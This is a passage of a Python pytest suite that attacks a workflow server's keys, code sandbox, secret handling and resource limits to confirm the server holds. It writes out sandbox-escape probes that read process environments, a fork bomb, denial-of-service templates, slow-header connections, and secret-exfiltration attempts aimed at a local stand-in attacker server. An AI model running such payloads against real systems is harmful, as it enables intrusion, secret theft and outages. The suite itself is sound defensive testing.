"""Attacks by an ordinary key holder, each against a real server: keys, scopes, bindings.

One server for the module: an admin key, a run key, and a run key bound to ``hello``.
"""

from __future__ import annotations

import json
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, PlainTextResponse, RedirectResponse, Response
from starlette.routing import Route

from tests.e2e.server import Server, finished, wait_for
from tests.eventually import NotYet, eventually
from tests.local_server import serve


@dataclass
class Keys:
    server: Server
    admin: httpx.Client
    runner: httpx.Client
    bound: httpx.Client
    bound_secret: str


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Keys]:
    server = Server(tmp_path_factory.mktemp("security"),
                    {"FLOWRUN_LLM_API_KEY": "sk-server-own-secret"})
    admin, runner = server.admin_key(), server.create_key()
    bound = server.create_key("--workflow", "hello")
    server.start()
    try:
        yield Keys(server, server.client(admin), server.client(runner), server.client(bound),
                   bound)
    finally:
        server.close()


HELLO = {"nodes": [{"id": "greet", "type": "template", "template": "pwned"}]}


def test_a_run_key_cannot_register_or_overwrite_a_workflow(keys: Keys) -> None:
    for client in (keys.runner, keys.bound):
        resp = client.put("/workflows/hello", json=HELLO)
        assert resp.status_code == 403, resp.text
        assert resp.json()["code"] == "forbidden"
        assert client.put("/workflows/brand-new", json=HELLO).status_code == 403
    run = keys.bound.post("/workflows/hello/run-sync", json={"inputs": {"name": "Ada"}}).json()
    assert run["outputs"] == {"greeting": "Hello, Ada!"}  # the victim's graph is intact
    resp = keys.admin.put("/workflows/admin-made", json=HELLO)
    assert resp.status_code == 201, resp.text


def test_a_bound_key_is_held_to_its_workflow_through_every_api(keys: Keys) -> None:
    client = keys.bound
    assert client.post("/workflows/slow/run", json={"inputs": {}}).status_code == 403
    assert client.post("/workflows/slow/run-sync", json={}).status_code == 403
    assert client.get("/workflows/slow").status_code == 403
    assert client.get("/workflows/slow/runs").status_code == 403
    assert client.get("/workflows/no-such-workflow").status_code == 403  # no existence oracle
    assert [w["name"] for w in client.get("/workflows").json()["workflows"]] == ["hello"]
    dify = client.post("/dify/v1/workflows/slow:1/run",
                       json={"inputs": {}, "user": "u", "response_mode": "async"})
    assert dify.status_code == 404, dify.text
    assert client.post("/conductor/api/workflow/slow", json={}).status_code == 403
    conductor = client.post("/conductor/api/workflow",
                            json={"name": "slow", "input": {"seconds": 0}})
    assert conductor.status_code == 403
    langflow = client.post("/langflow/api/v2/workflows",
                           json={"flow_id": "slow", "mode": "background", "inputs": {}})
    assert langflow.status_code == 403, langflow.text
    assert client.post("/jobs/workflows/slow/run", json={}).status_code == 403
    assert client.post("/jobs/workflows/slow/run-sync", json={}).status_code == 403
    assert client.get("/jobs/workflows/slow/jobs").status_code == 403
    # and its own workflow works through each of them
    assert client.post("/dify/v1/workflows/run", json={
        "inputs": {"name": "A"}, "user": "u", "response_mode": "blocking"}).status_code == 200
    assert client.post("/conductor/api/workflow/hello", json={"name": "A"}).status_code == 200
    assert client.post("/jobs/workflows/hello/run", json={"input": {"name": "A"}}
                       ).status_code == 200


def test_a_bound_key_cannot_reach_another_workflow_through_its_graph(keys: Keys) -> None:
    graph = {"inputs": {"name": "A"},
             "nodes": [{"id": "greet", "type": "workflow", "workflow": "slow",
                        "inputs": {"seconds": 0}}]}
    run = keys.bound.post("/workflows/hello/run-sync", json=graph).json()
    assert run["status"] == "failed", run
    assert run["error"]["code"] == "child_rejected", run["error"]
    assert "may not use 'slow'" in run["error"]["message"]
    mapped = {"inputs": {"name": "A"},
              "nodes": [{"id": "greet", "type": "map", "items": [1], "workflow": "slow",
                         "inputs": {"seconds": 0}}]}
    run = keys.bound.post("/workflows/hello/run-sync", json=mapped).json()
    assert run["status"] == "failed" and "may not use 'slow'" in run["error"]["message"], run


def test_runs_are_private_to_their_key_but_an_admin_sees_all(keys: Keys) -> None:
    run = keys.runner.post("/workflows/hello/run", json={"inputs": {"name": "B"}}).json()
    finished(keys.runner, run["id"])
    assert keys.bound.get(f"/runs/{run['id']}").status_code == 404
    assert keys.bound.post(f"/runs/{run['id']}/stop").status_code == 404
    assert keys.admin.get(f"/runs/{run['id']}").json()["id"] == run["id"]
    listed = keys.admin.get("/workflows/hello/runs", params={"limit": 1000}).json()["runs"]
    assert run["id"] in {r["id"] for r in listed}
    mine = keys.bound.get("/workflows/hello/runs", params={"limit": 1000}).json()["runs"]
    assert run["id"] not in {r["id"] for r in mine}


def test_keys_are_managed_by_admins_only(keys: Keys) -> None:
    assert keys.runner.post("/keys", json={"scope": "admin"}).status_code == 403
    assert keys.runner.get("/keys").status_code == 403
    resp = keys.admin.post("/keys", json={"name": "ci", "scope": "run", "workflows": ["slow"]})
    assert resp.status_code == 201, resp.text
    made = resp.json()
    assert made["scope"] == "run" and made["workflows"] == ["slow"]
    listed = keys.admin.get("/keys").json()["keys"]
    assert made["id"] in {k["id"] for k in listed}
    assert all("key" not in k and "hash" not in k for k in listed)
    fresh = keys.server.client(made["key"])
    assert fresh.get("/workflows").json()["workflows"][0]["name"] == "slow"
    bad = keys.admin.post("/keys", json={"scope": "admin", "workflows": ["slow"]})
    assert bad.status_code == 400
    assert keys.admin.delete(f"/keys/{made['id']}").status_code == 204
    assert fresh.get("/workflows").status_code == 401
    assert keys.admin.delete(f"/keys/{made['id']}").status_code == 404


def test_keys_command_takes_db_before_or_after_the_subcommand(tmp_path: Path) -> None:
    server = Server(tmp_path)
    db = server.target
    for args in (("keys", "--db", db, "create"), ("keys", "create", "--db", db),
                 ("keys", "create", "--scope", "admin", "--db", db)):
        done = server.cli(*args)
        assert done.returncode == 0, done.stderr
    listing = server.cli("keys", "list", "--db", db)
    assert listing.returncode == 0 and listing.stdout.count("active") == 3
    assert listing.stdout.count(" admin ") == 1


# --- code nodes ---------------------------------------------------------------------

def run_code(client: httpx.Client, code: str, **inputs: Any) -> dict[str, Any]:
    """Run ``code`` as the ``hello`` workflow's only node; the code node's record."""
    body = {"inputs": {"name": "x"},
            "nodes": [{"id": "greet", "type": "code", "code": code, "inputs": inputs}]}
    run = client.post("/workflows/hello/run-sync", json=body).json()
    node = next(n for n in run["nodes"] if n["id"] == "greet")
    return dict(node)


PROBE = """
import json, os, socket
def main(db, port):
    seen = {}
    try:
        open(db, "rb").read(16)
        seen["db"] = "read"
    except OSError as exc:
        seen["db"] = type(exc).__name__
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2)
        seen["server"] = "connected"
    except OSError as exc:
        seen["server"] = type(exc).__name__
    seen["pids"] = sorted(p for p in os.listdir("/proc") if p.isdigit())
    seen["init"] = open("/proc/1/cmdline", "rb").read().split(b"\\0")[0].decode()
    seen["environ"] = json.dumps(dict(os.environ))
    for pid in seen["pids"]:
        try:
            seen["environ"] += open(f"/proc/{pid}/environ", "rb").read().decode("latin-1")
        except OSError:
            pass
    try:
        open("/tmp/../escape-marker", "w").write("x")
        seen["write_root"] = "wrote"
    except OSError as exc:
        seen["write_root"] = type(exc).__name__
    return {"text": json.dumps(seen)}
"""


def test_code_cannot_reach_the_server_its_files_or_its_secrets(keys: Keys) -> None:
    node = run_code(keys.runner, PROBE, db=str(keys.server.db.resolve()),
                    port=keys.server.port)
    assert node["status"] == "succeeded", node["error"]
    seen = json.loads(node["outputs"]["text"])
    assert seen["db"] == "FileNotFoundError"  # no server file is in the sandbox
    assert seen["server"] == "ConnectionRefusedError"  # its own network namespace
    assert seen["pids"] == ["1", "2"] and seen["init"].endswith("bwrap")  # not the server
    assert "sk-server-own-secret" not in seen["environ"]
    assert seen["write_root"] in {"PermissionError", "OSError"}
    assert not Path("/escape-marker").exists()


def test_code_sees_the_python_runtime_but_not_the_sites_usr_local(keys: Keys) -> None:
    from flowrun.engine.sandbox.jail import python_executable
    from flowrun.engine.sandbox.runtime import runtime_paths

    code = ("import os\ndef main():\n"
            "    local = sorted(os.listdir('/usr/local')) if os.path.isdir('/usr/local') "
            "else []\n"
            "    return {'text': ' '.join(local), 'etc': os.path.exists('/usr/local/etc')}")
    node = run_code(keys.runner, code)
    assert node["status"] == "succeeded", node["error"]
    assert node["outputs"]["etc"] is False, node  # the site's own configuration
    needed = {Path(f).relative_to("/usr/local").parts[0]
              for f in runtime_paths(python_executable()) if f.startswith("/usr/local/")}
    assert set(node["outputs"]["text"].split()) == needed, node  # only what Python runs on


def test_a_root_servers_sandbox_holds_two_locks_on_nested_user_namespaces(keys: Keys) -> None:
    import os

    from tests.engine.test_code_node import NESTED

    if os.geteuid() != 0:  # the server runs as the user that runs the tests
        pytest.skip("a server that is not root has bubblewrap's own --disable-userns")
    node = run_code(keys.runner, NESTED)
    assert node["status"] == "succeeded", node["error"]
    # refused by seccomp first; the namespace's own limit stands behind it
    assert node["outputs"] == {"made": -1, "errno": 1, "limit": "0"}, node


def test_killing_the_parent_from_code_does_not_kill_the_server(keys: Keys) -> None:
    node = run_code(keys.runner, "import os\ndef main():\n    os.kill(os.getppid(), 9)\n"
                                 "    os.kill(1, 9)\n    return {'text': 'alive'}")
    assert node["status"] in {"succeeded", "failed"}, node
    assert keys.server.proc is not None and keys.server.proc.poll() is None
    assert httpx.get(f"{keys.server.url}/healthz", timeout=5).status_code == 200


def host_pids(pattern: str) -> list[str]:
    done = subprocess.run(["pgrep", "-f", pattern], capture_output=True, text=True,
                          check=False)
    return done.stdout.split()


def gone(pattern: str, what: str) -> None:
    """Wait (up to 10 s) until no host process matches ``pattern``."""
    eventually(lambda: not host_pids(pattern), timeout=10, interval=0.05, what=what)


def test_processes_a_job_forks_end_with_the_job(keys: Keys) -> None:
    code = ("import os\ndef main():\n    if os.fork() == 0:\n        os.setsid()\n"
            "        os.execv('/usr/bin/sleep', ['sleep', '7771'])\n"
            "    return {'text': 'left a child behind'}")
    node = run_code(keys.runner, code)
    assert node["status"] == "succeeded", node
    gone("sleep 7771", "the process forked by code ended with its job")


def test_a_fork_bomb_is_held_by_the_process_limit(keys: Keys) -> None:
    code = ("import os, time\ndef main():\n    n = 0\n    try:\n        for _ in range(500):\n"
            "            if os.fork() == 0:\n                time.sleep(3)\n"
            "                os._exit(0)\n            n += 1\n    except OSError:\n"
            "        pass\n    return {'text': str(n)}")
    node = run_code(keys.runner, code)
    assert node["status"] == "succeeded", node
    assert int(node["outputs"]["text"]) < 64


def test_code_workers_die_with_the_server(server_factory: Callable[..., Server]) -> None:
    server = server_factory()
    key = server.create_key()
    server.start("--log-level", "info")
    assert "code sandbox: bwrap" in server.log.read_text()
    client = server.client(key)
    code = "import os\ndef main():\n    os.execv('/usr/bin/sleep', ['sleep', '7772'])"
    body = {"inputs": {"name": "x"}, "nodes": [{"id": "greet", "type": "code", "code": code}]}
    run = client.post("/workflows/hello/run", json=body).json()
    wait_for(client, run["id"], lambda r: r["status"] == "running")
    eventually(lambda: host_pids("sleep 7772"), timeout=10, interval=0.05,
               what="the code job started")
    server.kill()
    gone("sleep 7772", "the code worker ended with the server")


def test_a_host_whose_ldd_cannot_run_still_sandboxes_code(
        server_factory: Callable[..., Server], tmp_path: Path) -> None:
    """ldd is a bash script that slim images may lack or break: the runtime's libraries
    are read from its ELF files, and its extension modules load in the sandbox."""
    import os

    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "ldd").write_text("#!/bin/sh\necho 'ldd: cannot run here' >&2\nexit 1\n")
    (tools / "ldd").chmod(0o755)
    server = server_factory({"PATH": f"{tools}:{os.environ.get('PATH', '/usr/bin:/bin')}"})
    key = server.create_key()
    server.start("--log-level", "info")
    assert "code sandbox: bwrap" in server.log.read_text(), server.log.read_text()
    code = ("import ctypes, lzma, sqlite3, ssl, zlib\ndef main():\n"
            "    return {'text': ssl.OPENSSL_VERSION.split()[0] + ' ' + sqlite3.sqlite_version}")
    node = run_code(server.client(key), code)
    assert node["status"] == "succeeded", node["error"]
    assert node["outputs"]["text"].startswith("OpenSSL "), node


def test_process_mode_is_announced_as_weaker(server_factory: Callable[..., Server]) -> None:
    server = server_factory({"FLOWRUN_CODE_SANDBOX": "process"})
    key = server.create_key()
    server.start()
    assert "code sandbox: process (WEAKER" in server.log.read_text()
    node = run_code(server.client(key), "def main():\n    return {'text': 'ran'}")
    assert node["outputs"] == {"text": "ran"}


# --- secrets ------------------------------------------------------------------------

class Capture:
    """An HTTP server that records what it is sent (a legitimate API or an attacker)."""

    def __init__(self) -> None:
        self.seen: list[dict[str, str]] = []
        self.redirect_to = ""

    def app(self) -> Starlette:
        async def record(request: Request) -> Response:
            self.seen.append({"path": request.url.path, **dict(request.headers)})
            if request.url.path.endswith("/redirect"):
                return RedirectResponse(self.redirect_to, status_code=302)
            if request.url.path.endswith("/chat/completions"):
                return JSONResponse({"choices": [{"message": {"content": "ok"},
                                                  "finish_reason": "stop"}], "usage": {}})
            return JSONResponse({"headers": dict(request.headers)})

        return Starlette(routes=[Route("/{path:path}", record, methods=["GET", "POST"])])

    def sent(self, needle: str) -> bool:
        return any(needle in json.dumps(s) for s in self.seen)


@pytest.fixture
def apis() -> Iterator[tuple[Capture, str, Capture, str]]:
    """(the real API, its URL, an attacker's server, its URL)."""
    api, attacker = Capture(), Capture()
    with serve(api.app()) as api_url, serve(attacker.app()) as attacker_url:
        api.redirect_to = f"{attacker_url}/stolen"
        yield api, api_url, attacker, attacker_url


SERVER_LLM_KEY = "sk-operators-own-llm-key-0001"
TOKEN = "tok-5a8d9e61c2f04b7f"


def test_the_servers_llm_key_goes_only_to_the_configured_url(
        server_factory: Callable[..., Server], apis: tuple[Capture, str, Capture, str]) -> None:
    api, api_url, attacker, attacker_url = apis
    server = server_factory({"FLOWRUN_LLM_BASE_URL": f"{api_url}/v1",
                             "FLOWRUN_LLM_API_KEY": SERVER_LLM_KEY,
                             "FLOWRUN_HTTP_ALLOWED_NETWORKS": "127.0.0.1/32"})
    key = server.create_key()
    server.start()
    client = server.client(key)
    graph = {"inputs": {"name": "x"}, "nodes": [
        {"id": "greet", "type": "llm", "prompt": "hi", "base_url": f"{attacker_url}/v1"}]}
    run = client.post("/workflows/hello/run-sync", json=graph).json()
    assert attacker.seen and not attacker.sent(SERVER_LLM_KEY)
    ok = {"inputs": {"name": "x"}, "nodes": [{"id": "greet", "type": "llm", "prompt": "hi"}]}
    run = client.post("/workflows/hello/run-sync", json=ok).json()
    assert api.sent(SERVER_LLM_KEY), run  # the configured API does get it
    assert SERVER_LLM_KEY not in json.dumps(run)


def test_secrets_go_only_where_the_operator_allowed(
        server_factory: Callable[..., Server], apis: tuple[Capture, str, Capture, str]) -> None:
    api, api_url, attacker, attacker_url = apis
    server = server_factory({"FLOWRUN_HTTP_ALLOWED_NETWORKS": "127.0.0.1/32"})
    admin, runner = server.client(server.admin_key()), server.client(server.create_key())
    server.start("--log-level", "debug")
    body = {"value": TOKEN, "allowed_urls": [f"{api_url}/ok"]}
    assert runner.put("/secrets/TOKEN", json=body).status_code == 403
    assert admin.put("/secrets/TOKEN", json=body).status_code == 201
    assert admin.put("/secrets/bad-name", json=body).status_code == 400
    assert admin.put("/secrets/X", json={"value": "v", "allowed_urls": ["ftp://127.0.0.1/"]}
                     ).status_code == 400
    assert runner.get("/secrets").status_code == 403
    assert TOKEN not in admin.get("/secrets").text

    def call(url: str) -> dict[str, Any]:
        graph = {"inputs": {"name": "x"}, "nodes": [
            {"id": "greet", "type": "http", "url": url,
             "headers": {"Authorization": "Bearer {{ secrets.TOKEN }}"}}]}
        return dict(runner.post("/workflows/hello/run-sync", json=graph).json())

    good = call(f"{api_url}/ok/echo")
    assert api.sent(TOKEN)  # it reached the API it is for
    node = good["nodes"][0]
    assert node["status"] == "succeeded", node
    assert node["inputs"]["headers"]["Authorization"] == "Bearer [[secret:TOKEN]]"
    assert node["outputs"]["body"]["headers"]["authorization"] == "Bearer [[secret:TOKEN]]"
    for url in (f"{attacker_url}/steal", f"{api_url}/elsewhere", f"{api_url}/ok/redirect",
                f"{api_url}/okay"):
        bad = call(url)
        assert bad["status"] == "failed" and bad["error"]["code"] == "secret_not_allowed", bad
    assert not attacker.sent(TOKEN)
    code = {"inputs": {"name": "x"}, "nodes": [
        {"id": "greet", "type": "code", "code": "def main(t):\n    return {'text': t}",
         "inputs": {"t": "{{ secrets.TOKEN }}"}}]}
    leaked = runner.post("/workflows/hello/run-sync", json=code).json()
    assert leaked["outputs"] == {"greeting": "[[secret:TOKEN]]"}
    for run in (good, leaked):
        events = runner.get(f"/runs/{run['id']}/events").text
        assert TOKEN not in events and TOKEN not in json.dumps(runner.get(
            f"/runs/{run['id']}").json())
    assert TOKEN not in server.log.read_text()
    assert call(f"{api_url}/ok/echo")["nodes"][0]["status"] == "succeeded"
    assert admin.delete("/secrets/TOKEN").status_code == 204
    gone_secret = call(f"{api_url}/ok/echo")
    assert gone_secret["error"]["code"] == "secret_not_found", gone_secret


# --- expressions --------------------------------------------------------------------

def test_hostile_expressions_fail_their_node_while_the_server_stays_fast(keys: Keys) -> None:
    hostile = [
        "{% set r=range(600) %}{% for a in r %}{% for b in r %}{% for c in r %}{% endfor %}"
        "{% endfor %}{% endfor %}",
        "{{ ((((9**64)**64)**64)**64) }}",
        "{{ '%01000000000d' % 1 }}",
        "{{ 'x' | center(1000000000) }}",
        "{{ ['x' * 999999] * 50 }}",
        "{{ ([[1] * 999999] * 300) | sum(start=[]) | length }}",
        "{{ ([('x' * 999999)] * 2000) | string | length }}",
        "{{ ([('x' * 999999)] * 2000) | tojson | length }}",
        "x{{ [('x' * 999999)] * 2000 }}",
    ]
    ids = []
    for text in hostile * 4:
        graph = {"inputs": {"name": "x"},
                 "nodes": [{"id": "greet", "type": "template", "template": text}]}
        ids.append(keys.runner.post("/workflows/hello/run", json=graph).json()["id"])
    slowest = 0.0
    for _ in range(20):
        started = time.perf_counter()
        assert httpx.get(f"{keys.server.url}/healthz", timeout=10).status_code == 200
        slowest = max(slowest, time.perf_counter() - started)
    for run_id in ids:
        run = finished(keys.runner, run_id)
        assert run["status"] == "failed", run
        assert run["error"]["code"] == "expression_error", run["error"]
        assert len(json.dumps(run)) < 100_000  # nothing huge was stored
    assert slowest < 1.0, f"/healthz took {slowest:.2f}s while expressions ran"
    assert keys.server.proc is not None
    rss_kb = int(Path(f"/proc/{keys.server.proc.pid}/status").read_text()
                 .split("VmRSS:")[1].split()[0])
    assert rss_kb < 600_000, f"the server grew to {rss_kb // 1024} MiB"


FORGE = """
import os
def main(payload):
    for fd in range(3, 64):
        try:
            os.write(fd, payload.encode() + b"\\n")
        except OSError:
            pass
    return {"text": "honest"}
"""


@pytest.mark.parametrize("payload", ['{"ok": true, "result": "notadict"}',
                                     '{"ok": true, "result": {"x": NaN}}',
                                     '{"ok": true, "result": {"x": Infinity}}', '[1]'])
def test_a_forged_worker_result_fails_only_its_node(keys: Keys, payload: str) -> None:
    body = {"inputs": {"name": "x"}, "nodes": [
        {"id": "greet", "type": "code", "code": FORGE, "inputs": {"payload": payload}}]}
    run = keys.runner.post("/workflows/hello/run-sync", json=body)
    assert run.status_code == 200, run.text
    run_id = run.json()["id"]
    stored = keys.runner.get(f"/runs/{run_id}")
    assert stored.status_code == 200, stored.text
    assert stored.json()["status"] == "failed"
    assert stored.json()["nodes"][0]["error"]["code"] == "code_error", stored.json()


def test_numbers_that_json_cannot_hold_never_reach_a_run(keys: Keys) -> None:
    body = {"inputs": {"name": "x"}, "nodes": [
        {"id": "greet", "type": "code", "code": "def main(x):\n    return {'text': x}",
         "inputs": {"x": "{{ 1e308 * 10 }}"}}]}
    run = keys.runner.post("/workflows/hello/run-sync", json=body)
    assert run.status_code == 200, run.text
    assert run.json()["error"]["code"] == "expression_error"
    raw = b'{"inputs": {"name": "x", "n": 1e999}}'
    resp = keys.runner.post("/workflows/hello/run", content=raw,
                            headers={"content-type": "application/json"})
    assert resp.status_code == 400, resp.text
    resp = keys.runner.post("/workflows/hello/run", content=b'{"inputs": {"name": NaN}}',
                            headers={"content-type": "application/json"})
    assert resp.status_code == 400, resp.text


# --- bounds -------------------------------------------------------------------------

def test_auth_can_be_off_only_on_loopback_however_it_is_turned_off(tmp_path: Path) -> None:
    server = Server(tmp_path, {"FLOWRUN_AUTH_ENABLED": "false"})
    for extra in ((), ("--no-auth",)):
        done = subprocess.run([*server.command("0.0.0.0"), *extra], env=server.env,
                              capture_output=True, text=True, timeout=30, check=False)
        assert done.returncode == 2, done.stderr
        assert "only on a loopback host" in done.stderr


def test_database_files_are_private_to_the_server(keys: Keys) -> None:
    for suffix in ("", "-wal", "-shm"):
        path = Path(f"{keys.server.db}{suffix}")
        assert path.exists() and path.stat().st_mode & 0o777 == 0o600, path


def test_a_workflow_calling_itself_stops_at_the_depth_limit(keys: Keys) -> None:
    recurse = {"inputs": {"n": {"type": "integer", "default": 0}},
               "nodes": [{"id": "again", "type": "workflow", "workflow": "recurse",
                          "inputs": {"n": "{{ inputs.n + 1 }}"}}]}
    assert keys.admin.put("/workflows/recurse", json=recurse).status_code == 201
    run = keys.runner.post("/workflows/recurse/run-sync", json={}).json()
    assert run["status"] == "failed", run
    runs = keys.admin.get("/workflows/recurse/runs", params={"limit": 1000}).json()["runs"]
    assert len(runs) == 11  # the root and ten levels of children, no more
    deepest = [r for r in runs if r["status"] == "failed" and r["parent_run_id"]]
    messages = [keys.admin.get(f"/runs/{r['id']}").json()["error"]["message"] for r in deepest]
    assert any("nest at most 10 levels" in m for m in messages), messages


def test_a_map_cannot_ask_for_more_concurrency_than_the_server_allows(keys: Keys) -> None:
    graph = {"inputs": {"name": "x"}, "nodes": [
        {"id": "greet", "type": "map", "items": list(range(40)), "concurrency": 1000,
         "nodes": [{"id": "t", "type": "template", "template": "{{ item }}"}],
         "output": "{{ nodes.t.text }}"}]}
    run = keys.runner.post("/workflows/hello/run-sync", json=graph).json()
    node = run["nodes"][0]
    assert node["outputs"]["results"] == [str(i) for i in range(40)]
    assert "capped at the server's maximum of 32" in " ".join(node["process_data"]["logs"])


def test_ipv6_forms_of_loopback_are_blocked(keys: Keys) -> None:
    # Only the forms this machine delivers to itself: the others (NAT64, 6to4, ...) are
    # routed elsewhere, so they are judged in the address-policy table, without I/O
    # (tests/engine/test_http_node.py).
    port = keys.server.port
    for host in ("::ffff:127.0.0.1", "::1"):
        graph = {"inputs": {"name": "x"}, "nodes": [
            {"id": "greet", "type": "http", "url": f"http://[{host}]:{port}/healthz"}]}
        run = keys.runner.post("/workflows/hello/run-sync", json=graph).json()
        assert run["error"]["code"] == "http_blocked", (host, run["error"])


def test_no_error_names_another_keys_run(keys: Keys) -> None:
    run = keys.admin.post("/jobs/workflows/hello/run", json={"input": {"name": "A"}}).json()
    job, run_id = run["data"]["id"], run["data"]["runId"]
    resp = keys.runner.get(f"/jobs/jobs/{job}/stream")
    assert resp.status_code == 404 and run_id not in resp.text


@pytest.mark.parametrize(("method", "path", "body"), [
    ("GET", "/jobs/jobs/99999999999999999999999/stream", None),
    ("GET", "/jobs/jobs/²/stream", None),
    ("POST", "/jobs/workflows/99999999999999999999999/run", {}),
    ("POST", "/conductor/api/workflow/hello?version=99999999999999999999", {}),
    ("POST", "/conductor/api/workflow/hello?priority=99999999999999999999", {}),
    ("POST", "/conductor/api/workflow/execute/hello/99999999999999999999", {}),
    ("POST", "/langflow/api/v2/workflows",
     {"flow_id": "99999999999999999999999", "mode": "background"}),
    ("GET", "/langflow/api/v2/workflows?job_id=x&stream=true&sequence_id=9999999999999999999999",
     None),
    ("GET", "/workflows/hello/runs?cursor=99999999999999999999999", None),
    ("GET", "/workflows/hello/runs?limit=99999999999999999999999", None),
    ("GET", "/workflows/hello?version=99999999999999999999999", None),
    ("POST", "/workflows/hello/run", {"version": 99999999999999999999999}),
    ("POST", "/dify/v1/workflows/hello:99999999999999999999999/run",
     {"inputs": {}, "user": "u"}),
])
def test_oversized_numbers_are_a_client_error(keys: Keys, method: str, path: str,
                                              body: Any) -> None:
    resp = keys.admin.request(method, path, json=body)
    assert 400 <= resp.status_code < 500, (resp.status_code, resp.text)


def test_deeply_nested_bodies_are_a_client_error(keys: Keys) -> None:
    deep: Any = "x"
    for _ in range(600):
        deep = {"a": deep}
    graph = {"nodes": [{"id": "t", "type": "template", "template": "x", "title": "t"}],
             "outputs": {"x": deep}}
    resp = keys.admin.put("/workflows/deep", json=graph)
    assert resp.status_code == 400 and "nested" in resp.text, resp.text
    run = keys.runner.post("/workflows/hello/run", json={"inputs": {"name": "x"},
                                                         "overrides": {"greet": deep}})
    assert run.status_code == 400


def test_event_streams_per_key_are_bounded(server_factory: Callable[..., Server]) -> None:
    server = server_factory({"FLOWRUN_MAX_STREAMS_PER_KEY": "3"})
    key, other = server.create_key(), server.create_key()
    server.start()
    client = server.client(key)
    run = client.post("/workflows/slow/run", json={"inputs": {"seconds": 30}}).json()
    url = f"{server.url}/runs/{run['id']}/events"
    headers = {"Authorization": f"Bearer {key}"}
    streams = [httpx.stream("GET", url, headers=headers, timeout=30) for _ in range(3)]
    opened = [s.__enter__() for s in streams]
    try:
        assert all(r.status_code == 200 for r in opened)
        over = client.get(f"/runs/{run['id']}/events")
        assert over.status_code == 429 and over.json()["code"] == "too_many_requests"
        streamed = client.post("/workflows/slow/run",
                               json={"inputs": {"seconds": 0}, "stream": True})
        assert streamed.status_code == 429
        listed = client.get("/workflows/slow/runs").json()["runs"]
        assert len(listed) == 1  # the refused streaming start started no run
        assert server.client(other).get(f"/runs/{run['id']}/events").status_code == 404
    finally:
        for stream in streams:
            stream.__exit__(None, None, None)
    def stopped_and_streamed() -> httpx.Response | NotYet:
        resp = client.post(f"/runs/{run['id']}/stop")
        with httpx.stream("GET", url, headers=headers, timeout=30) as again:
            return resp if again.status_code == 200 else NotYet(again.status_code)

    # the closed streams give their places back
    resp = eventually(stopped_and_streamed, timeout=10, interval=0.05,
                      what="closed streams released")
    assert resp.status_code == 200


def _read_response(sock: socket.socket) -> bytes:
    """One whole HTTP/1.1 response with a Content-Length, read off a raw socket."""
    data = b""
    while b"\r\n\r\n" not in data:
        data += sock.recv(4096)
    head, _, body = data.partition(b"\r\n\r\n")
    length = int(next(line.split(b":", 1)[1] for line in head.split(b"\r\n")
                      if line.lower().startswith(b"content-length:")))
    while len(body) < length:
        body += sock.recv(4096)
    return data


def test_slow_header_connections_are_closed_and_capped(
        server_factory: Callable[..., Server]) -> None:
    # (one client may hold them all here: this is about the server's cap)
    server = server_factory({"FLOWRUN_MAX_CONNECTIONS": "20",
                             "FLOWRUN_MAX_CONNECTIONS_PER_CLIENT": "20",
                             "FLOWRUN_HEADER_TIMEOUT_S": "1"})
    server.start()
    sockets = []
    try:
        for _ in range(25):
            sock = socket.create_connection(("127.0.0.1", server.port), timeout=10)
            sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")  # never finished
            sockets.append(sock)
        other = httpx.HTTPTransport(local_address="127.0.0.2")  # another client: the cap is all's
        with httpx.Client(transport=other, timeout=10) as client:
            assert client.get(f"{server.url}/healthz").status_code == 503
        for sock in sockets:  # the server hangs up on each within the header timeout
            answer = sock.recv(1024)  # (past what one client may hold: at once, with a 503)
            assert answer == b"" or b"too_many_connections" in answer, answer
        assert httpx.get(f"{server.url}/healthz", timeout=10).status_code == 200
        silent = socket.create_connection(("127.0.0.1", server.port), timeout=10)
        sockets.append(silent)  # connects and never sends a byte
        kept = socket.create_connection(("127.0.0.1", server.port), timeout=10)
        sockets.append(kept)  # one full request, then a second one left unfinished
        kept.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        assert _read_response(kept).startswith(b"HTTP/1.1 200")
        kept.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        began = time.monotonic()
        assert silent.recv(1024) == b"" and kept.recv(1024) == b""
        assert time.monotonic() - began < 5  # the header timeout, not keep-alive's or more
    finally:
        for sock in sockets:
            sock.close()


def test_an_llm_reply_is_capped(server_factory: Callable[..., Server]) -> None:
    async def huge(request: Request) -> Response:
        return JSONResponse({"choices": [{"message": {"content": "x" * 300_000}}]})

    app = Starlette(routes=[Route("/v1/chat/completions", huge, methods=["POST"])])
    with serve(app) as url:
        server = server_factory({"FLOWRUN_LLM_BASE_URL": f"{url}/v1",
                                 "FLOWRUN_LLM_MAX_RESPONSE_BYTES": "100000"})
        key = server.create_key()
        server.start()
        graph = {"inputs": {"name": "x"},
                 "nodes": [{"id": "greet", "type": "llm", "prompt": "hi"}]}
        run = server.client(key).post("/workflows/hello/run-sync", json=graph).json()
    assert run["error"]["code"] == "llm_too_large", run["error"]
    assert len(json.dumps(run)) < 50_000


FETCH = """
import socket, urllib.request, urllib.error
def main(url, port):
    seen = {}
    for name, target in (("allowed", url), ("private", f"http://127.0.0.2:{port}/x")):
        try:
            seen[name] = urllib.request.urlopen(target, timeout=10).status
        except urllib.error.HTTPError as exc:
            seen[name] = f"{exc.code} {exc.read().decode()[:80]}"
        except OSError as exc:
            seen[name] = type(exc).__name__
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2)
        seen["direct"] = "connected"
    except OSError as exc:
        seen["direct"] = type(exc).__name__
    return {"text": repr(seen)}
"""


def test_code_network_is_opt_in_and_goes_through_the_http_policy(
        server_factory: Callable[..., Server], apis: tuple[Capture, str, Capture, str]) -> None:
    api, api_url, _, _ = apis
    port = int(api_url.rsplit(":", 1)[1])
    closed = server_factory(name="closed")
    closed_key = closed.create_key()
    closed.start()
    node = run_code(closed.client(closed_key), FETCH, url=f"{api_url}/ok/x", port=port)
    assert "'allowed': 'URLError'" in node["outputs"]["text"], node  # no network at all
    assert not api.seen
    opened = server_factory({"FLOWRUN_CODE_NETWORK": "1",
